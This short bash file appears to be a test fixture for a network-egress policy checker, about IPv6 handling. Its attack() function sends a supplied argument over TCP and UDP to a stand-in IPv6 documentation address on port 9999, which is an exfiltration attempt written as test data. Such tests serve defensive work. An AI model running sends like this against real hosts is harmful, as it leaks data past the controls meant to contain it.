# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='IPv6, where the policy and the machine know both'
origin='RESEARCH §2.77'
reason='not_resolved'
forms='output forward run'
attack() { tool send.py stream 2001:db8:3::66 9999 "$1"; tool send.py udp 2001:db8:3::66 9999 "$1"; }
